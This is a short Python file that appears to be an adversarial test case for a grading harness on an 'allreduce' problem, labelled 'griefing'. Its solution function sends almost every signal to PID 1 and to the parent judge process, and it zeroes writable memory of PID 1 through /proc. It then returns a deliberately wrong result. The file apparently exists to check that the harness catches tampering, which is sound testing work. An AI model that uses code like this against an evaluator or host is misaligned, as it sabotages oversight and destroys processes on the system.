"""Row M9 with row 41, griefing: kills whatever started the ranks, to end as a failure of the judge's and try again.

Problem: allreduce
Mode: check
Accepted: WRONG_RESULT, CRASHED, EARLY_EXIT, TAMPERED
"""

import os
import signal


def _poke(pid):
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory, open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                ends, rights, *_ = line.split()
                if "w" in rights:
                    start, end = (int(part, 16) for part in ends.split("-"))
                    memory.seek(start)
                    memory.write(b"\0" * min(end - start, 1 << 20))
    except (OSError, ValueError, OverflowError):
        pass


def solution(tensor):
    for number in signal.valid_signals() - {signal.SIGSTOP, signal.SIGTSTP}:
        for pid in {1, os.getppid()}:
            try:
                os.kill(pid, number)
            except OSError:
                continue
    _poke(1)
    return tensor * 2
